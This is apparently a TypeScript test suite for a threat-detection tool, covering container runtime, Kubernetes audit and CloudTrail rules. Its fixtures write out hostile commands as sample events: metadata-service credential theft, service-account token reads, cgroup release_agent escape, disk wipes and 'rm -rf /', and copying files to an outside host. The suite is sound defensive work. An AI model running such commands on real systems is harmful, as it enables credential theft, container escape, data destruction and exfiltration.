    it('flags a shell connecting to a public address, not to DNS or internal services', () => {
      fires('Shell opened network connection', tcpConnect(BASH, '203.0.113.7', 4444));
      fires('Shell opened network connection', tcpConnect(SH, '2001:db8::7', 443, { host: true }));
      silent('Shell opened network connection', tcpConnect(BASH, '10.96.0.10', 5432));
      silent('Shell opened network connection', tcpConnect(BASH, '8.8.8.8', 53));
      silent('Shell opened network connection', tcpConnect({ binary: '/usr/bin/curl' }, '203.0.113.7', 443));
    });
  });

  describe('runtime: cloud metadata and service account tokens', () => {
    it('flags credential requests to the metadata service from containers', () => {
      fires('Cloud credentials requested from metadata service', exec({ binary: '/usr/bin/curl', args: '-s http://169.254.169.254/latest/meta-data/iam/security-credentials/eks-node-role' }, SH));
      fires('Cloud credentials requested from metadata service', exec({ binary: '/usr/bin/wget', args: '-qO- http://169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI' }, SH));
      silent('Cloud credentials requested from metadata service', exec({ binary: '/usr/bin/curl', args: '-s http://169.254.169.254/latest/meta-data/placement/region' }, SH));
      silent('Cloud credentials requested from metadata service', exec({ binary: '/usr/bin/curl', args: '-s http://169.254.169.254/latest/meta-data/iam/security-credentials/' }, BASH, { host: true }));
    });

    it('flags hand tools connecting to the metadata address, not SDKs', () => {
      fires('Metadata service contacted by network tool', tcpConnect({ binary: '/usr/bin/curl' }, '169.254.169.254', 80));
      fires('Metadata service contacted by network tool', tcpConnect(BASH, 'fd00:ec2::254', 80));
      silent('Metadata service contacted by network tool', tcpConnect({ binary: '/usr/bin/python3', args: '/app/worker.py' }, '169.254.169.254', 80));
      silent('Metadata service contacted by network tool', tcpConnect({ binary: '/usr/bin/curl' }, '169.254.169.254', 80, { host: true }));
    });

    it('flags the service account token read with shell tools, not by the application', () => {
      fires('Service account token read by shell tool', exec({ binary: '/bin/cat', args: '/var/run/secrets/kubernetes.io/serviceaccount/token' }, SH));
      fires('Service account token read by shell tool', exec({ binary: '/usr/bin/base64', args: 'token', cwd: '/run/secrets/kubernetes.io/serviceaccount' }, BASH));
      fires('Service account token read by shell tool', fileOpen({ binary: '/bin/cat' }, '/run/secrets/kubernetes.io/serviceaccount/..2024_05_01_09_58_12.417788/token'));
      silent('Service account token read by shell tool', fileOpen({ binary: '/manager', args: '--leader-elect' }, '/run/secrets/kubernetes.io/serviceaccount/..2024_05_01_09_58_12.417788/token'));
      silent('Service account token read by shell tool', exec({ binary: '/bin/cat', args: '/var/run/secrets/kubernetes.io/serviceaccount/namespace' }, SH));
    });
  });

  describe('runtime: namespaces and container escape', () => {
    it('flags setns from a container (corpus: Tetragon namespace-access example), not the runtime', async (t) => {
      fires('Namespace change from container', kprobe({ binary: '/usr/bin/unshare', args: '-r -m' }, '__x64_sys_unshare', [{ int_arg: 0x10020000 }]));
      silent('Namespace change from container', kprobe({ binary: '/usr/bin/runc', args: 'init' }, '__x64_sys_setns', [{ int_arg: 5 }, { int_arg: 0x20000 }]));
      silent('Namespace change from container', kprobe({ binary: '/opt/google/chrome/chrome', args: '--headless' }, '__x64_sys_unshare', [{ int_arg: 0x10000000 }]));
      silent('Namespace change from container', kprobe({ binary: '/usr/bin/nsenter', args: '-t 1 -m' }, '__x64_sys_setns', [{ int_arg: 3 }, { int_arg: 0x20000 }], { host: true }));
      if (!requireCorpus(t)) return;
      expectFired(await corpusSignals('tetragon/docs-examples/namespace-access-block8.jsonl'), 'Namespace change from container');
    });

    it('flags nsenter run in a container (corpus: the privileged pod escape)', async (t) => {
      fires('Namespace tool run in container', exec({ binary: '/usr/bin/unshare', args: '-UrmC bash' }, BASH));
      silent('Namespace tool run in container', exec({ binary: '/usr/bin/nsenter', args: '-t 1 -m -- crictl ps' }, { binary: '/usr/bin/kubectl-node_shell' }, { host: true }));
      if (!requireCorpus(t)) return;
      const signals = await corpusSignals('tetragon/security-observability-with-ebpf/03_chapter/03_security_observability_events/01_reaching_the_host_namespace/privileged-pod-nsenter.json');
      const s = expectFired(signals, 'Namespace tool run in container');
      assert.match(s.output ?? '', /nsenter -t 1 -m -u -n -i -p bash/);
    });

    it('flags release_agent writes and cgroup mounts in containers', () => {
      fires('Cgroup release_agent modified', exec({ binary: '/bin/sh', args: '-c "echo /var/lib/docker/overlay2/abc/diff/cmd > /tmp/cgrp/release_agent"' }, BASH));
      fires('Cgroup release_agent modified', fileWrite({ binary: '/bin/sh' }, '/tmp/cgrp/release_agent'));
      silent('Cgroup release_agent modified', fileWrite({ binary: '/usr/lib/systemd/systemd' }, '/sys/fs/cgroup/systemd/release_agent', { host: true }));
      silent('Cgroup release_agent modified', fileWrite({ binary: '/bin/sh' }, '/tmp/cgrp/notes.txt'));
      fires('Cgroup filesystem mounted in container', exec({ binary: '/bin/mount', args: '-t cgroup -o rdma cgroup /tmp/cgrp' }, BASH));
      fires('Cgroup filesystem mounted in container', kprobe({ binary: '/bin/mount' }, '__x64_sys_mount', [{ string_arg: 'cgroup' }, { string_arg: '/tmp/cgrp' }, { string_arg: 'cgroup' }, { int_arg: 0 }]));
      silent('Cgroup filesystem mounted in container', exec({ binary: '/bin/mount', args: '-t tmpfs tmpfs /scratch' }, BASH));
      silent('Cgroup filesystem mounted in container', kprobe({ binary: '/usr/bin/runc', args: 'init' }, '__x64_sys_mount', [{ string_arg: 'cgroup' }, { string_arg: '/sys/fs/cgroup' }, { string_arg: 'cgroup2' }, { int_arg: 0 }]));
    });
  });

  describe('runtime: ransomware-like files and bulk destruction', () => {
    it('flags renames and writes to ransomware extensions, not ordinary renames', () => {
      const rename = (from: string, to: string): JsonObject => kprobe({ binary: '/tmp/.x/enc' }, '__x64_sys_renameat2', [{ int_arg: -100 }, { string_arg: from }, { int_arg: -100 }, { string_arg: to }, { int_arg: 0 }]);
      const s = fires('File renamed to ransomware extension', rename('/data/db/customers.csv', '/data/db/customers.csv.LOCKED'));
      assert.match(s.output ?? '', /to=\/data\/db\/customers\.csv\.LOCKED/);
      fires('File renamed to ransomware extension', fileWrite({ binary: '/usr/bin/python3' }, '/srv/share/q3-report.xlsx.encrypted'));
      silent('File renamed to ransomware extension', rename('/var/log/app.log', '/var/log/app.log.1'));
      silent('File renamed to ransomware extension', rename('/data/tmp/upload.part', '/data/uploads/photo.jpg'));
    });

    it('flags ransom notes written to disk or by a command line', () => {
      fires('Ransom note written', fileWrite({ binary: '/tmp/.x/enc' }, '/data/HOW_TO_DECRYPT_FILES.txt'));
      fires('Ransom note written', exec({ binary: '/bin/sh', args: '-c "echo \'pay 2 BTC\' > /srv/share/README_FOR_DECRYPT.txt"' }, SH));
      silent('Ransom note written', fileWrite({ binary: '/usr/bin/vim' }, '/srv/app/README.md'));
    });

    it('flags recursive deletes of data directories and wipes, not cache clean-ups', () => {
      fires('Recursive delete of data directory', exec({ binary: '/bin/rm', args: '-rf /var/lib/postgresql' }, SH));
      fires('Recursive delete of data directory', exec({ binary: '/bin/rm', args: '-rf /var/lib/postgresql/data' }, SH));
      fires('Recursive delete of data directory', exec({ binary: '/usr/bin/find', args: '/var/lib/postgresql/16/main -type f -exec shred -n 1 -z -u {} +' }, SH));
      silent('Recursive delete of data directory', exec({ binary: '/bin/rm', args: '-rf /var/lib/postgresql/data/pg_wal/archive_status/tmp' }, SH));
      fires('Recursive delete of data directory', exec({ binary: '/bin/rm', args: '-rf --no-preserve-root /' }, SH, { host: true }));
      fires('Recursive delete of data directory', exec({ binary: '/usr/bin/find', args: '/data -type f -delete' }, SH));
      fires('Recursive delete of data directory', exec({ binary: '/bin/rm', args: '-r -f /backups/*' }, SH));
      silent('Recursive delete of data directory', exec({ binary: '/bin/rm', args: '-rf /var/lib/apt/lists/*' }, SH));
      silent('Recursive delete of data directory', exec({ binary: '/bin/rm', args: '-rf /tmp/build-4411' }, SH));
      silent('Recursive delete of data directory', exec({ binary: '/usr/bin/find', args: '/tmp -type f -mtime +7 -delete' }, SH, { host: true }));
      silent('Recursive delete of data directory', exec({ binary: '/bin/rm', args: '-f /data/upload.part' }, SH));
      fires('Secure wipe of data or disk', exec({ binary: '/usr/bin/shred', args: '-n 3 -z -u /var/lib/mysql/ibdata1' }, SH));
      fires('Secure wipe of data or disk', exec({ binary: '/bin/dd', args: 'if=/dev/zero of=/dev/nvme0n1 bs=1M' }, BASH, { host: true }));
      silent('Secure wipe of data or disk', exec({ binary: '/usr/bin/shred', args: '-u /tmp/deploy-key.pem' }, SH));
      silent('Secure wipe of data or disk', exec({ binary: '/bin/dd', args: 'if=/dev/zero of=/swapfile bs=1M count=1024' }, BASH, { host: true }));
    });

    it('flags files copied to a remote host, not local copies', () => {
      fires('Files copied to a remote host', exec({ binary: '/usr/bin/scp', args: '-i /root/.ssh/id_rsa s3nsitiv3.7z natalia@34.116.205.187:~' }, SH));
      fires('Files copied to a remote host', exec({ binary: '/usr/bin/rsync', args: '-az /var/lib/postgresql/dump/ backup.example.net:/srv/dumps/' }, BASH, { host: true }));
      fires('Files copied to a remote host', exec({ binary: '/usr/bin/rclone', args: 'copy /data remote-s3://exfil-bucket/' }, SH));
      silent('Files copied to a remote host', exec({ binary: '/usr/bin/rsync', args: '-a /var/lib/app/ /backup/app/' }, SH));
      silent('Files copied to a remote host', exec({ binary: '/bin/cp', args: 'a@b:c /tmp/x' }, SH));
    });
  });

  describe('runtime: corpus without attacks stays quiet', () => {
    it('raises nothing on Tetragon\'s documentation examples and test events but the namespace access', async (t) => {
      if (!requireCorpus(t)) return;
      const docs = JSON.parse(readFileSync(corpusPath('tetragon/docs-examples/_index.json'), 'utf8')) as { file: string }[];
      // testdata-events.jsonl has a record without a time, which the decoder rightly rejects.
      const decoded = await decodeFiles([...docs.map((d) => corpusPath(`tetragon/docs-examples/${d.file}`)), corpusPath('tetragon/testdata-events.jsonl')]);
      assert.ok(decoded.events.length > 20);
      assert.deepEqual(ruleCounts(detect(decoded.events)), { 'Namespace change from container': 1 });
    });
  });

  // ------------------------------------------------------------------------------------------
  describe('k8s audit', () => {
    const EVENTS = 'falco/plugins/k8saudit/testdata/events/';

    it('flags privileged pods (corpus: Falco traces), not node agents or dry runs', async (t) => {
      fires('Pod created with privileged container', podCreate({}, [{ image: 'alpine:3.19', securityContext: { capabilities: { add: ['SYS_ADMIN'] } } }]));
      fires('Pod created with privileged container', podCreate({ initContainers: [{ name: 'setup', image: 'busybox', securityContext: { privileged: true } }] }, [{ image: 'alpine:3.19' }]));
      silent('Pod created with privileged container', podCreate({}, [{ image: 'registry.k8s.io/kube-proxy:v1.30.1', securityContext: { privileged: true } }]));
      silent('Pod created with privileged container', podCreate({}, [{ image: 'alpine:3.19', securityContext: { privileged: true } }], { requestURI: '/api/v1/namespaces/shop/pods?dryRun=All' }));
      silent('Pod created with privileged container', podCreate({}, [{ image: 'alpine:3.19', securityContext: { privileged: true } }], { responseStatus: { metadata: {}, code: 403, reason: 'Forbidden' } }));
      silent('Pod created with privileged container', podCreate({}, [{ image: 'alpine:3.19', securityContext: { privileged: true } }], { stage: 'RequestReceived' }));
      if (!requireCorpus(t)) return;
      for (const f of ['create_nginx_pod_privileged.json', 'create_nginx_pod_privileged_2nd_container.json', 'create_nginx_pod_no_secctx_1st_container_privileged_2nd_container.json']) {
        expectFired(await corpusSignals(EVENTS + f), 'Pod created with privileged container');
      }
      expectSilent(await corpusSignals(`${EVENTS}create_nginx_pod_unprivileged.json`), 'Pod created with privileged container');
    });

    it('flags pods running a known miner image, not ordinary images', () => {
      fires('Pod created with a cryptominer image', podCreate({}, [{ image: 'docker.io/metal3d/xmrig:latest' }]));
      fires('Pod created with a cryptominer image', podCreate({}, [{ image: 'nginx:1.25' }, { image: 'ghcr.io/someone/cpuminer-opt:v3' }]));
      silent('Pod created with a cryptominer image', podCreate({}, [{ image: 'docker.io/acme/orders-api:1.14.0' }]));
      silent('Pod created with a cryptominer image', podCreate({}, [{ image: 'docker.io/metal3d/xmrig:latest' }], { requestURI: '/api/v1/namespaces/shop/pods?dryRun=All' }));
    });

    it('flags host namespaces and host network', async (t) => {
      fires('Pod created sharing host PID or IPC namespace', podCreate({ hostPID: true }, [{ image: 'alpine:3.19', securityContext: { privileged: true } }]));
      fires('Pod created sharing host PID or IPC namespace', podCreate({ hostIPC: true }, [{ image: 'alpine:3.19' }]));
      silent('Pod created sharing host PID or IPC namespace', podCreate({ hostPID: false }, [{ image: 'alpine:3.19' }]));
      silent('Pod created sharing host PID or IPC namespace', podCreate({ hostPID: true }, [{ image: 'quay.io/prometheus/node-exporter:v1.8.0' }]));
      fires('Pod created on host network', podCreate({ hostNetwork: true }, [{ image: 'ghcr.io/acme/tool:1' }]));
      silent('Pod created on host network', podCreate({ hostNetwork: true }, [{ image: 'quay.io/cilium/cilium:v1.15.4' }]));
      if (!requireCorpus(t)) return;
      expectFired(await corpusSignals(`${EVENTS}create_nginx_pod_hostnetwork.json`), 'Pod created on host network');
      expectSilent(await corpusSignals(`${EVENTS}create_nginx_pod_nohostnetwork.json`), 'Pod created on host network');
    });

    it('flags sensitive hostPath mounts, not log or timezone mounts', async (t) => {
      const vol = (path: string): JsonObject => ({ volumes: [{ name: 'h', hostPath: { path, type: '' } }] });
      fires('Pod created with sensitive host path', podCreate(vol('/'), [{ image: 'alpine:3.19' }]));
      fires('Pod created with sensitive host path', podCreate(vol('/var/run/docker.sock'), [{ image: 'docker:26-cli' }]));
      fires('Pod created with sensitive host path', podCreate(vol('/etc/kubernetes/manifests'), [{ image: 'alpine:3.19' }]));
      silent('Pod created with sensitive host path', podCreate(vol('/var/log'), [{ image: 'alpine:3.19' }]));
      silent('Pod created with sensitive host path', podCreate(vol('/etc/localtime'), [{ image: 'alpine:3.19' }]));
      if (!requireCorpus(t)) return;
      expectFired(await corpusSignals(`${EVENTS}create_nginx_pod_sensitive_mount.json`), 'Pod created with sensitive host path');
      expectSilent(await corpusSignals(`${EVENTS}create_nginx_pod_unsensitive_mount.json`), 'Pod created with sensitive host path');
    });

    it('flags exec, attach and debug containers (corpus: Falco traces), not refused requests', async (t) => {
      const execReq = (extra: JsonObject): JsonObject => auditEvent({
        verb: 'create', stage: 'ResponseStarted', level: 'Request',
        requestURI: '/api/v1/namespaces/shop/pods/web-7d9f8b6c5-x2kq4/exec?command=sh&command=-c&command=env&container=web&stdout=true',
        objectRef: { resource: 'pods', namespace: 'shop', name: 'web-7d9f8b6c5-x2kq4', subresource: 'exec', apiVersion: 'v1' },
        responseStatus: { metadata: {}, code: 101 },
        ...extra,
      });
      const s = fires('Interactive session opened into pod', execReq({}));
      assert.match(s.output ?? '', /command=sh/);
      fires('Interactive session opened into pod', execReq({ verb: 'get' }));
      fires('Interactive session opened into pod', auditEvent({
        verb: 'patch', requestURI: '/api/v1/namespaces/shop/pods/web-7d9f8b6c5-x2kq4/ephemeralcontainers',
        objectRef: { resource: 'pods', namespace: 'shop', name: 'web-7d9f8b6c5-x2kq4', subresource: 'ephemeralcontainers', apiVersion: 'v1' },
        responseStatus: { metadata: {}, code: 200 },
      }));
      silent('Interactive session opened into pod', execReq({ responseStatus: { metadata: {}, code: 403, reason: 'Forbidden' } }));
      silent('Interactive session opened into pod', execReq({ stage: 'RequestReceived', responseStatus: undefined }));
      silent('Interactive session opened into pod', auditEvent({
        verb: 'get', requestURI: '/api/v1/namespaces/shop/pods/web-7d9f8b6c5-x2kq4/log?container=web',
        objectRef: { resource: 'pods', namespace: 'shop', name: 'web-7d9f8b6c5-x2kq4', subresource: 'log', apiVersion: 'v1' },
        responseStatus: { metadata: {}, code: 200 },
      }));
      if (!requireCorpus(t)) return;
      expectFired(await corpusSignals(`${EVENTS}exec_pod.json`), 'Interactive session opened into pod');
      expectFired(await corpusSignals(`${EVENTS}attach_pod.json`), 'Interactive session opened into pod');
    });

    it('flags deletecollection and namespace deletion by people, not the namespace controller', async (t) => {
      const bulk = (user: string, extra: JsonObject = {}): JsonObject => auditEvent({
        verb: 'deletecollection', user: { username: user, groups: ['system:authenticated'] },
        requestURI: '/api/v1/namespaces/shop/persistentvolumeclaims',
        objectRef: { resource: 'persistentvolumeclaims', namespace: 'shop', apiVersion: 'v1' },
        responseStatus: { metadata: {}, code: 200 },
        ...extra,
      });
      fires('Bulk deletion of cluster resources', bulk('alice@example.com'));
      silent('Bulk deletion of cluster resources', bulk('system:serviceaccount:kube-system:namespace-controller'));
      // Controllers are excepted by name: a stolen kube-system token is still reported.
      fires('Bulk deletion of cluster resources', bulk('system:serviceaccount:kube-system:default'));
      silent('Bulk deletion of cluster resources', bulk('alice@example.com', { responseStatus: { metadata: {}, code: 403 } }));
      if (!requireCorpus(t)) return;
      expectFired(await corpusSignals(`${EVENTS}delete_namespace_foo.json`), 'Bulk deletion of cluster resources');
      expectSilent(await corpusSignals(`${EVENTS}some-user_creates_namespace_foo.json`, `${EVENTS}delete_configmap.json`), 'Bulk deletion of cluster resources');
    });

    it('raises exactly the expected signals on every Falco k8saudit trace', async (t) => {
      if (!requireCorpus(t)) return;
      const expected: Record<string, Record<string, number>> = {
        'attach_pod.json': { 'Interactive session opened into pod': 1 },
        'create_nginx_pod_hostnetwork.json': { 'Pod created on host network': 1 },
        'create_nginx_pod_no_secctx_1st_container_privileged_2nd_container.json': { 'Pod created with privileged container': 1 },
        'create_nginx_pod_privileged.json': { 'Pod created with privileged container': 1 },
        'create_nginx_pod_privileged_2nd_container.json': { 'Pod created with privileged container': 1 },
        'create_nginx_pod_sensitive_mount.json': { 'Pod created with sensitive host path': 1 },
        'create_nginx_pod_sensitive_mount_2nd_container.json': { 'Pod created with sensitive host path': 1 },
        'delete_namespace_foo.json': { 'Bulk deletion of cluster resources': 1 },
        'exec_pod.json': { 'Interactive session opened into pod': 1 },
      };
      const files = readdirSync(corpusPath(EVENTS)).sort();
      assert.ok(files.length >= 40);
      for (const f of files) {
        const decoded = await decodeFiles([corpusPath(EVENTS + f)]);
        assert.deepEqual(ruleCounts(detect(decoded.events)), expected[f] ?? {}, f);
      }
    });
  });

  // ------------------------------------------------------------------------------------------
  describe('cloudtrail', () => {
    const STRATUS = 'stratus-red-team/detonation-logs/';

    it('raises exactly the expected signals on every Stratus Red Team detonation', async (t) => {
      if (!requireCorpus(t)) return;
      const expected: Record<string, Record<string, number>> = {
        'aws.credential-access.ec2-steal-instance-credentials.json': { 'Instance credentials used from outside the instance': 2 },
        'aws.defense-evasion.cloudtrail-delete.json': { 'CloudTrail trail stopped or deleted': 1 },
        'aws.defense-evasion.cloudtrail-event-selectors.json': { 'CloudTrail trail logging narrowed': 1 },
        'aws.defense-evasion.cloudtrail-stop.json': { 'CloudTrail trail stopped or deleted': 1 },
        'aws.defense-evasion.dns-delete-logs.json': { 'AWS log source disabled': 1 },
        'aws.defense-evasion.vpc-remove-flow-logs.json': { 'AWS log source disabled': 1 },
        'aws.execution.ec2-launch-unusual-instances.json': { 'GPU or very large EC2 instance launched': 1 },
        'aws.exfiltration.ec2-share-ami.json': { 'Snapshot or image shared outside the account': 1 },
        'aws.exfiltration.ec2-share-ebs-snapshot.json': { 'Snapshot or image shared outside the account': 1 },
        'aws.exfiltration.rds-share-snapshot.json': { 'Snapshot or image shared outside the account': 1 },
        'aws.initial-access.console-login-without-mfa.json': { 'Console login without MFA': 1 },
        'aws.persistence.iam-backdoor-user.json': { 'Credentials created for another IAM user': 1 },
        'aws.persistence.iam-create-admin-user.json': { 'Credentials created for another IAM user': 1 },
        'aws.persistence.iam-create-user-login-profile.json': { 'Credentials created for another IAM user': 1 },
        'aws.privilege-escalation.iam-update-user-login-profile.json': { 'Credentials created for another IAM user': 1 },
      };
      const files = readdirSync(corpusPath(STRATUS)).sort();
      assert.ok(files.length >= 30);
      for (const f of files) {
        const decoded = await decodeFiles([corpusPath(STRATUS + f)]);
        assert.deepEqual(decoded.errors, [], f);
        const signals = detect(decoded.events);
        assert.deepEqual(ruleCounts(signals), expected[f] ?? {}, f);
        for (const rule of Object.keys(expected[f] ?? {})) expectFired(signals, rule);
      }
    });

    it('flags logging being stopped, narrowed or removed, not failed or harmless changes', (t) => {
      fires('CloudTrail trail logging narrowed', trail('cloudtrail.amazonaws.com', 'UpdateTrail', { name: 'org-trail', isMultiRegionTrail: false }));
      fires('CloudTrail trail logging narrowed', trail('cloudtrail.amazonaws.com', 'PutEventSelectors', { trailName: 'org-trail', eventSelectors: [{ readWriteType: 'All', includeManagementEvents: true, excludeManagementEventSources: ['kms.amazonaws.com', 'rdsdata.amazonaws.com'], dataResources: [] }] }));
      silent('CloudTrail trail logging narrowed', trail('cloudtrail.amazonaws.com', 'UpdateTrail', { name: 'org-trail', isMultiRegionTrail: true }));
      fires('AWS log source disabled', trail('config.amazonaws.com', 'StopConfigurationRecorder', { configurationRecorderName: 'default' }));
      fires('AWS log source disabled', trail('eks.amazonaws.com', 'UpdateClusterConfig', { name: 'prod', logging: { clusterLogging: [{ types: ['api', 'audit'], enabled: false }] } }));
      silent('AWS log source disabled', trail('eks.amazonaws.com', 'UpdateClusterConfig', { name: 'prod', logging: { clusterLogging: [{ types: ['api', 'audit'], enabled: true }] } }));
      fires('AWS threat detection disabled', trail('guardduty.amazonaws.com', 'DeleteDetector', { detectorId: '12abc34d567e8fa901bc2d34e56789f0' }));
      fires('AWS threat detection disabled', trail('guardduty.amazonaws.com', 'UpdateDetector', { detectorId: '12abc34d', enable: false }));
      silent('AWS threat detection disabled', trail('guardduty.amazonaws.com', 'UpdateDetector', { detectorId: '12abc34d', enable: true, findingPublishingFrequency: 'FIFTEEN_MINUTES' }));
      silent('AWS threat detection disabled', trail('guardduty.amazonaws.com', 'DeleteDetector', { detectorId: '12abc34d' }, { errorCode: 'AccessDenied', errorMessage: 'not authorized' }));
      if (!requireCorpus(t)) return;
      fires('CloudTrail trail stopped or deleted', panther('AWS.CloudTrail.Stopped', 'CloudTrail Was Stopped'));
      silent('CloudTrail trail stopped or deleted', panther('AWS.CloudTrail.Stopped', 'Error Stopping CloudTrail'));
      silent('CloudTrail trail logging narrowed', panther('AWS.CloudTrail.EventSelectorsDisabled', 'Event Selector Enabled'));
      fires('AWS log source disabled', panther('AWS.S3.DisableBucketLogging', 'Bucket Logging Disabled Successfully'));
      silent('AWS log source disabled', panther('AWS.S3.DisableBucketLogging', 'Bucket Logging Enabled'));
    });

    it('flags S3 made public, not private ACLs, service principals or org-scoped policies', (t) => {
      fires('S3 ACL grants public access', trail('s3.amazonaws.com', 'PutBucketAcl', { bucketName: 'invoices', acl: [''], 'x-amz-acl': ['public-read'], Host: ['invoices.s3.eu-west-1.amazonaws.com'] }));
      fires('S3 ACL grants public access', trail('s3.amazonaws.com', 'PutObjectAcl', { bucketName: 'invoices', key: 'q3.pdf', AccessControlPolicy: { AccessControlList: { Grant: [{ Grantee: { 'xsi:type': 'Group', URI: 'http://acs.amazonaws.com/groups/global/AllUsers' }, Permission: 'READ' }] } } }));
      fires('S3 public access block removed or weakened', trail('s3.amazonaws.com', 'PutBucketPublicAccessBlock', { bucketName: 'invoices', PublicAccessBlockConfiguration: { BlockPublicAcls: true, IgnorePublicAcls: true, BlockPublicPolicy: false, RestrictPublicBuckets: false } }));
      silent('S3 public access block removed or weakened', trail('s3.amazonaws.com', 'PutBucketPublicAccessBlock', { bucketName: 'invoices', PublicAccessBlockConfiguration: { BlockPublicAcls: true, IgnorePublicAcls: true, BlockPublicPolicy: true, RestrictPublicBuckets: true } }));
      if (!requireCorpus(t)) return;
      fires('S3 bucket policy allows everyone', panther('AWS.CloudTrail.ResourceMadePublic', 'S3 Made Publicly Accessible'));
      silent('S3 bucket policy allows everyone', panther('AWS.CloudTrail.ResourceMadePublic', 'S3 Not Made Publicly Accessible'));
      silent('S3 bucket policy allows everyone', panther('AWS.CloudTrail.ResourceMadePublic', 'All Restrictive Conditions Types (Should Not Alert)'));
      silent('S3 bucket policy allows everyone', panther('AWS.CloudTrail.ResourceMadePublic', 'S3 Failed to make Publicly Accessible'));
      silent('S3 ACL grants public access', panther('AWS.S3.BucketPolicyModified', 'S3 Bucket Policy Modified'));
      fires('S3 public access block removed or weakened', panther('AWS.S3.DeletePublicAccessBlock', 'Public Access Block Deleted Successfully'));
      silent('S3 public access block removed or weakened', panther('AWS.S3.DeletePublicAccessBlock', 'Public Access Block Deletion Failed'));
      silent('S3 public access block removed or weakened', panther('AWS.S3.DeletePublicAccessBlock', 'Non-S3 Event'));
    });

    it('flags snapshots shared out, not shares revoked or with trusted accounts', (t) => {
      silent('Snapshot or image shared outside the account', trail('ec2.amazonaws.com', 'ModifySnapshotAttribute', { snapshotId: 'snap-0a1b2c3d', attributeType: 'CREATE_VOLUME_PERMISSION', createVolumePermission: { remove: { items: [{ userId: '444455556666' }] } } }));
      const set = loadRules([...RULE_FILES, { name: 'local.yaml', text: '- list: vigil_ct_trusted_accounts\n  items: ["444455556666"]\n  override:\n    items: append\n' }], RULE_SOURCES);
      assert.deepEqual(set.diagnostics, []);
      const share = decodeRecords([trail('ec2.amazonaws.com', 'ModifySnapshotAttribute', { snapshotId: 'snap-0a1b2c3d', attributeType: 'CREATE_VOLUME_PERMISSION', createVolumePermission: { add: { items: [{ userId: '444455556666' }] } } })]);
      expectFired(detect(share), 'Snapshot or image shared outside the account');
      expectSilent(share.flatMap((e) => new Detector(set, 'all').detect(e)), 'Snapshot or image shared outside the account');
      if (!requireCorpus(t)) return;
      fires('Snapshot or image shared outside the account', panther('AWS.CloudTrail.SnapshotMadePublic', 'Snapshot Made Publicly Accessible'));
      silent('Snapshot or image shared outside the account', panther('AWS.CloudTrail.SnapshotMadePublic', 'Snapshot Not Made Publicly Accessible'));
      silent('Snapshot or image shared outside the account', panther('AWS.CloudTrail.SnapshotMadePublic', 'Error Making Snapshot Publicly Accessible'));
      silent('Snapshot or image shared outside the account', panther('AWS.RDS.SnapshotShared', 'Snapshot shared with no accounts'));
    });

    it('flags SSE-C rewrites, ransom notes and key destruction', (t) => {
      fires('S3 object written with customer-provided key', trail('s3.amazonaws.com', 'PutObject', { bucketName: 'invoices', key: 'q3.pdf', 'x-amz-server-side-encryption-customer-algorithm': 'AES256', Host: 'invoices.s3.eu-west-1.amazonaws.com' }, { additionalEventData: { SSEApplied: 'SSE_C', bytesTransferredIn: 52311 }, managementEvent: false, eventCategory: 'Data' }));
      silent('S3 object written with customer-provided key', trail('s3.amazonaws.com', 'GetObject', { bucketName: 'invoices', key: 'q3.pdf', 'x-amz-server-side-encryption-customer-algorithm': 'AES256' }, { readOnly: true, additionalEventData: { SSEApplied: 'SSE_C' } }));
      if (!requireCorpus(t)) return;
      fires('S3 object written with customer-provided key', panther('AWS.S3.CopyObjectWithClientSideEncryption', 'CopyObject with client-side encryption'));
      silent('S3 object written with customer-provided key', panther('AWS.S3.CopyObjectWithClientSideEncryption', 'CopyObject without client-side encryption'));
      silent('S3 object written with customer-provided key', panther('AWS.S3.CopyObject.CrossAccount.Encryption.KMS', 'In-Place Copy with KMS Key Change'));
      fires('S3 ransom note uploaded', panther('AWS.S3.RansomwareNoteUpload', 'Ransomware Note - HOW_TO_DECRYPT_FILES.txt'));
      silent('S3 ransom note uploaded', panther('AWS.S3.RansomwareNoteUpload', 'Normal File Upload - quarterly_report.pdf'));
      fires('KMS key disabled or scheduled for deletion', panther('AWS.KMS.CustomerManagedKeyLoss', 'KMS Key Scheduled For Deletion'));
      fires('KMS key disabled or scheduled for deletion', panther('AWS.KMS.CustomerManagedKeyLoss', 'KMS Key Disabled'));
      silent('KMS key disabled or scheduled for deletion', panther('AWS.KMS.CustomerManagedKeyLoss', 'KMS Disable Key Error'));
    });

    it('flags each destructive call, not AWS\'s own rotation and scaling', (t) => {
      fires('S3 object version permanently deleted', trail('s3.amazonaws.com', 'DeleteObject', { bucketName: 'invoices', key: 'q3.pdf', versionId: '3HL4kqtJlcpXroDTDmJ.rmSpXd3dIbrHY' }, { managementEvent: false, eventCategory: 'Data' }));
      fires('S3 lifecycle rule expires objects within a week', trail('s3.amazonaws.com', 'PutBucketLifecycle', { bucketName: 'invoices', LifecycleConfiguration: { Rule: [{ ID: 'x', Status: 'Enabled', Filter: { Prefix: '' }, Expiration: { Days: 1 }, NoncurrentVersionExpiration: { NoncurrentDays: 1 } }] } }));
      silent('S3 bucket deleted', trail('s3.amazonaws.com', 'DeleteBucket', { bucketName: 'invoices', Host: 'invoices.s3.eu-west-1.amazonaws.com' }, { errorCode: 'BucketNotEmpty', errorMessage: 'The bucket you tried to delete is not empty' }));
      fires('Backup or snapshot deleted', trail('ec2.amazonaws.com', 'DeleteSnapshot', { snapshotId: 'snap-0a1b2c3d' }));
      fires('Backup or snapshot deleted', trail('backup.amazonaws.com', 'DeleteRecoveryPoint', { backupVaultName: 'prod', recoveryPointArn: 'arn:aws:ec2:eu-west-1::snapshot/snap-0a1b2c3d' }));
      silent('Backup or snapshot deleted', trail('ec2.amazonaws.com', 'DeleteSnapshot', { snapshotId: 'snap-0a1b2c3d' }, { userIdentity: assumedRole('AWSBackupDefaultServiceRole', 'AWSBackup-AWSBackupDefaultServiceRole'), sourceIPAddress: 'backup.amazonaws.com', userAgent: 'backup.amazonaws.com' }));
      silent('Backup or snapshot deleted', trail('ec2.amazonaws.com', 'DeleteSnapshot', { snapshotId: 'snap-0a1b2c3d' }, { userIdentity: { ...assumedRole('AWSServiceRoleForEC2SnapshotLifecycle', 'dlm'), sessionContext: { sessionIssuer: { type: 'Role', arn: 'arn:aws:iam::111122223333:role/aws-service-role/dlm.amazonaws.com/AWSServiceRoleForEC2SnapshotLifecycle', userName: 'AWSServiceRoleForEC2SnapshotLifecycle' } } }, sourceIPAddress: '10.0.0.1' }));
      if (!requireCorpus(t)) return;
      fires('S3 objects deleted', panther('AWS.S3.DeleteObjects', 'DeleteObjects'));
      fires('S3 bucket deleted', panther('AWS.S3.BucketDeleted', 'An S3 Bucket was deleted'));
